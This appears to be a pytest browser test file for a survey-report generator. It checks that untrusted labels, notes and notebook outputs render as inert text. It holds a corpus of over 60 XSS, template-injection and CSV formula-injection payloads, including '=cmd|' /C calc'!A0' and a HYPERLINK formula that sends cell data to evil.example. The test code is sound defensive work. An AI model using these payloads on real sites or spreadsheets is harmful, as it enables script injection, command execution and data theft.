"""Labels, questions, notes, sources and names are untrusted: each reaches the page as text and runs nothing."""

from __future__ import annotations

import csv
import json
import shutil
from html import escape
from itertools import count, cycle
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree

import numpy as np
import pandas as pd
import pytest
from conftest import make_report
from hand_made import a_manifest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from playwright.sync_api import Browser
from test_page import Seen, show
from waves.respondents import WAVE, respondents

from groundswell.checksum import checksum
from groundswell.reports.language.language import Language
from groundswell.reports.own.outputs import PLOTLY, shown
from groundswell.reports.own.refusal import NotShownError
from groundswell.reports.publish.assets import write_assets
from groundswell.reports.publish.page import render_page
from groundswell.waves.surveys.survey_toml import Disclosure
from groundswell.waves.toplines.row import COLUMNS

pytestmark = [pytest.mark.browser, pytest.mark.kernel]

HIT = "window.__hit=1"
PAYLOADS = [
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f"<script/x>{HIT}</script>",
    f"<<script>script>{HIT}<</script>/script>",
    f"<img src=x onerror={HIT}>",
    f"<img src=x onerror='{HIT}'>",
    f'"><img src=x onerror="{HIT}">',
    f"'><img src=x onerror='{HIT}'>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext><script>{HIT}</script></mtext></math>",
    f"<body onload={HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src=javascript:{HIT}>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<a href='java\tscript:{HIT}'>x</a>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<button formaction=javascript:{HIT}>x</button>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}>",
    f"<textarea autofocus onfocus={HIT}></textarea>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<style>@import 'javascript:{HIT}'</style>",
    "</style><style>body{display:none}</style>",
    f"<link rel=stylesheet href=javascript:{HIT}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<img src=https://evil.example/pixel.png>",
    f"<template><script>{HIT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
    f"<!--><script>{HIT}</script>-->",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"--><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</details></section></main><script>{HIT}</script>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"\u2028{HIT}\u2029",
    f"');{HIT};//",
    f'");{HIT};//',
    f"`;{HIT};//",
    f"${{{HIT}}}",
    "{{ 7*7 }}",
    "{% for x in [1] %}boom{% endfor %}",
    "{{ cycler.__init__.__globals__ }}",
    "{0.__class__}",
    "{share}",
    "%(share)s %s %d",
    "%{x}<extra>%{y}</extra>",
    f"<b onmouseover={HIT}>bold</b>",
    f"[x](javascript:{HIT})",
    f"![x](x onerror={HIT})",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"x")',
    "$$\\href{javascript:window.__hit=1}{x}$$",
]
HOSTILE_URL = "https://evil.example/'><script>window.__hit=1</script>?javascript:window.__hit=1"


def hostile_survey(folder: Path, payloads: list[str]) -> None:
    """A survey whose every free text is one of the payloads, each used at least once."""
    turn = cycle(payloads)

    def text() -> str:
        return (
            json.dumps(next(turn), ensure_ascii=False)
            .replace("\u2028", "\\u2028")
            .replace("\u2029", "\\u2029")
        )

    lines = [f"{key} = {text()}" for key in ("title", "universe", "geography", "licence")]
    lines += ["default_deff = 1.5", f"default_deff_source = {text()}"]
    lines += ["[shared_bias]", "sd = 0.1", f"source = {text()}"]
    keys = ("conducted_by", "population", "instruments", "sampling", "precision", "weighting", "limitations")
    lines += ["[disclosure]", *(f"{key} = {text()}" for key in keys)]
    lines += ["[[events]]", "date = 2024-03-01", f"label = {text()}", 'shock = "none"']
    for house in ("one", "two"):
        lines += [f"[houses.{house}]", f"name = {text()}", f"mode = {text()}"]
    lines += ["[indicators.mood]", f"title = {text()}", f"description = {text()}", 'higher_is = "worse"']
    for house in ("one", "two"):
        lines += [f"[indicators.mood.variants.{house}]", f'house = "{house}"', f"question = {text()}"]
        lines += ['numerator = ["yes"]', f"caution = {text()}"]
    folder.mkdir(parents=True)
    (folder / "survey.toml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    with (folder / "toplines.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.DictWriter(file, COLUMNS)
        rows.writeheader()
        for number in range(40):
            year, month = 2021 + number // 12, number % 12 + 1
            rows.writerow(
                {
                    "indicator": "mood",
                    "variant": ("one", "two")[number % 2],
                    "house": ("one", "two")[number % 2],
                    "category": "yes",
                    "share": f"0.4{number % 10}",
                    "start": f"{year}-{month:02}-01",
                    "end": f"{year}-{month:02}-03",
                    "precision": "day",
                    "n": 1000,
                    "source_title": next(turn),
                    "certainty": "verbatim_primary",
                    "note": next(turn),
                }
            )


def test_hostile_text_is_text(browser: Browser, repository: Path, tmp_path: Path) -> None:
    shutil.copytree(repository / "notebooks", tmp_path / "notebooks")
    mine = [payload.replace("\t", " ") for payload in PAYLOADS]
    hostile_survey(tmp_path / "surveys" / "hostile", mine)
    folder = make_report(tmp_path, "hostile", "--as-of", "2024-12-31")
    seen = show(browser, folder / "index.html")
    page = seen.page
    page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
    for mark in page.locator(".plot .point").all()[:4]:
        mark.hover(force=True)
    assert page.evaluate("window.__hit") is None
    assert seen.troubles == []
    assert seen.outside(folder.parents[1]) == []
    words = " ".join(page.evaluate("document.body.textContent").split())
    assert [payload for payload in mine if " ".join(payload.split()) not in words] == []
    hrefs = page.evaluate(
        "[...document.querySelectorAll('[href],[src]')].map(e => e.getAttribute('href') ?? e.src)"
    )
    assert not [url for url in hrefs if url.strip().lower().startswith("javascript:")]


def rotated(place: int) -> str:
    """The whole corpus in one line of text, beginning with another payload in every field."""
    clean = [payload.replace("\t", " ") for payload in PAYLOADS]
    first = place * 7 % len(clean)
    return " ".join([*clean[first:], *clean[:first]])


def everything_hostile(project: Path) -> int:
    """A survey whose every free text is the whole corpus, with a wave of respondents; returns the number of fields."""
    places = count()

    def text() -> str:
        return json.dumps(rotated(next(places)))

    lines = [f"{key} = {text()}" for key in ("title", "universe", "geography", "licence", "sponsor")]
    lines += ["default_deff = 1.5", f"default_deff_source = {text()}"]
    lines += ["[shared_bias]", "sd = 0.1", f"source = {text()}"]
    lines += ["[disclosure]", *(f"{key} = {text()}" for key in Disclosure.model_fields)]
    lines += ["[[events]]", "date = 2024-03-01", f"label = {text()}", 'shock = "none"']
    for house in ("one", "two"):
        lines += [f"[houses.{house}]", f"name = {text()}", f"mode = {text()}", f'url = "{HOSTILE_URL}"']
        lines += ["default_deff = 1.2", f"default_deff_source = {text()}"]
    yes = text()
    lines += ["[indicators.mood]", f"title = {text()}", f"description = {text()}", 'higher_is = "worse"']
    for variant, house in (("one", "one"), ("two", "two"), ("old", "two")):
        lines += [f"[indicators.mood.variants.{variant}]", f'house = "{house}"', f"question = {text()}"]
        lines += [f"numerator = [{yes}]", f"caution = {text()}", f"period = {text()}", f"scale = {text()}"]
    lines += ["fit = false", f"fit_reason = {text()}"]
    folder = project / "surveys" / "hostile"
    (folder / "waves").mkdir(parents=True)
    (folder / "survey.toml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    with (folder / "toplines.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.DictWriter(file, COLUMNS)
        rows.writeheader()
        for month in range(1, 9):
            variant = ("one", "two", "old")[month % 3]
            cells = {"indicator": "mood", "variant": variant, "house": "two" if variant == "old" else variant}
            cells |= {"mode": rotated(next(places)), "category": json.loads(yes), "share": f"0.4{month}"}
            cells |= {
                "start": f"2024-0{month}-01",
                "end": f"2024-0{month}-03",
                "precision": "day",
                "n": "1000",
            }
            cells |= {"source_title": rotated(next(places)), "source_url": HOSTILE_URL}
            cells |= {"certainty": "verbatim_primary", "note": rotated(next(places))}
            rows.writerow(cells)
    people = respondents(60, 60, region=np.repeat([rotated(next(places)) for _ in range(3)], 40))
    people.to_csv(folder / "waves" / "01.csv", index=False)
    stated = WAVE.replace("acme", "one").replace("anxiety", "mood").replace("asked", "one")
    own = f'file = "01.csv"\nsha256 = "{checksum(folder / "waves" / "01.csv")}"\n'
    own += f"start = 2023-02-02\nend = 2023-02-09\nsource_title = {text()}\n"
    (folder / "waves" / "01.toml").write_text(own + stated, encoding="utf-8")
    return next(places)


def test_the_whole_corpus_through_every_field_runs_nothing_on_any_page(
    browser: Browser, repository: Path, tmp_path: Path
) -> None:
    shutil.copytree(repository / "notebooks", tmp_path / "notebooks")
    assert everything_hostile(tmp_path) > 60
    profile = make_report(tmp_path, "hostile", "--as-of", "2024-12-31", "--notebook", "wave_profile")
    folder = make_report(tmp_path, "hostile", "--as-of", "2024-12-31", "--single-file")
    reports = folder.parents[1]
    pages = [folder / "index.html", folder.with_name(f"{folder.name}.html"), profile / "index.html"]
    pages += [reports / "index.html", reports / "hostile" / "index.html"]
    for file in pages:
        seen = show(browser, file) if "plot" in file.read_text(encoding="utf-8") else glance(browser, file)
        seen.page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
        assert seen.page.evaluate("window.__hit") is None, file
        assert seen.troubles == [], file
        assert seen.outside(reports) == [], file
        urls = seen.page.evaluate(
            "[...document.querySelectorAll('[href],[src]')].map(part => part.href || part.src)"
        )
        assert {urlsplit(url).scheme for url in urls} <= {"file", "data", "https", ""}, file
        assert all(url.startswith("data:text/csv") for url in urls if url.startswith("data:")), file
        seen.page.context.close()
    newest = browser.new_page()
    newest.goto((reports / "hostile" / "latest" / "index.html").as_uri())
    newest.wait_for_url(folder.joinpath("index.html").as_uri())  # it leads on by itself
    assert newest.evaluate("window.__hit") is None
    newest.close()
    assert len(ElementTree.parse(reports / "feed.xml").getroot()) > 3
    for table in [*folder.glob("*.csv"), *profile.glob("*.csv")]:
        with table.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        risky = [
            cell
            for cell in cells
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell)
        ]
        assert risky == [], table.name


def own_outputs_of(payload: str) -> list[dict[str, Any]]:
    """One payload in every form that a cell of a notebook of one's own may show."""
    rows = pd.DataFrame({payload: [payload]})
    styled = rows.style.format(escape=None).set_caption(payload).set_properties(color=payload)
    figure = {"data": [{"type": "bar", "x": [payload], "y": [1], "name": payload, "text": payload}]}
    layout = {"title": {"text": payload}, "annotations": [{"text": payload}], "images": [{"source": payload}]}
    inside = f'<a href="{escape(payload)}"><text>{escape(payload)}</text></a>'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'
    forms = [
        {"text/html": payload},
        {"text/html": f"<table><tr><td title='{payload}'>{payload}</td></tr></table>"},
        {"text/html": rows.to_html(escape=False)},
        {"text/html": f"<style>#T_1 td {{color: {payload}}} {payload} {{color: red}}</style><b>x</b>"},
        {"text/html": styled.to_html()},
        {"text/markdown": payload},
        {"text/markdown": f"# {payload}\n\n[{payload}]({payload}) ${payload}$ $$\\text{{{payload}}}$$"},
        {"text/latex": f"$\\href{{javascript:{HIT}}}{{x}} \\text{{{payload}}}$"},
        {"image/svg+xml": svg},
        {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg">{payload}</svg>'},
        {PLOTLY: {**figure, "layout": {}}},
        {PLOTLY: {**figure, "layout": layout}},
        {"text/plain": payload},
    ]
    outputs = [dict(new_output("display_data", form | {"text/plain": payload})) for form in forms]
    outputs.append(dict(new_output("stream", text=payload)))
    return [*outputs, dict(new_output("error", ename=payload, evalue=payload, traceback=[payload]))]


def test_a_notebook_of_ones_own_runs_nothing_on_its_page(browser: Browser, tmp_path: Path) -> None:
    kept, refused = [], 0
    for output in (output for payload in PAYLOADS for output in own_outputs_of(payload)):
        try:
            shown(output, Language("en"))
            kept.append(output)
        except NotShownError:
            refused += 1
    assert len(kept) > 8 * len(PAYLOADS) > refused > 0
    figures = [output for output in kept if PLOTLY in output.get("data", {})]
    some = [output for output in kept if PLOTLY not in output.get("data", {})] + figures[:12]
    cells = [new_markdown_cell("# Hostile"), new_code_cell("show()", outputs=some)]
    folder = tmp_path / "reports" / "testland" / "2024-12-31"
    folder.mkdir(parents=True)
    write_assets(tmp_path / "reports")
    made = render_page(new_notebook(cells=cells), a_manifest("2024-12-31", notebook="mine"))
    (folder / "index.html").write_text(made, encoding="utf-8")
    seen = show(browser, folder / "index.html")
    assert seen.page.evaluate("window.__hit") is None
    assert seen.troubles == []
    assert seen.outside(tmp_path / "reports") == []
    urls = seen.page.evaluate(
        "[...document.querySelectorAll('main [href],[src]')].map(part => part.href || part.src)"
    )
    assert {urlsplit(str(url)).scheme for url in urls} <= {"file", "data", "https", "http", ""}
    assert (
        seen.page.evaluate(
            "document.querySelectorAll('main form, main iframe, main object, main base').length"
        )
        == 0
    )
    assert seen.page.locator("#reproduce").is_visible()
    seen.page.context.close()


def glance(browser: Browser, file: Path) -> Seen:
    """Open a page that has no figure to wait for."""
    seen = Seen(browser.new_context(offline=True).new_page())
    seen.page.on("request", lambda request: seen.asked.append(request.url))
    seen.page.on("console", lambda message: seen.troubles.append(message.text))
    seen.page.on("pageerror", lambda error: seen.troubles.append(str(error)))
    seen.page.on("dialog", lambda dialog: seen.troubles.append(f"dialog: {dialog.message}"))
    seen.page.goto(file.resolve().as_uri())
    return seen


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_corpus_is_as_large_as_promised() -> None:
    assert len(set(PAYLOADS)) >= 60
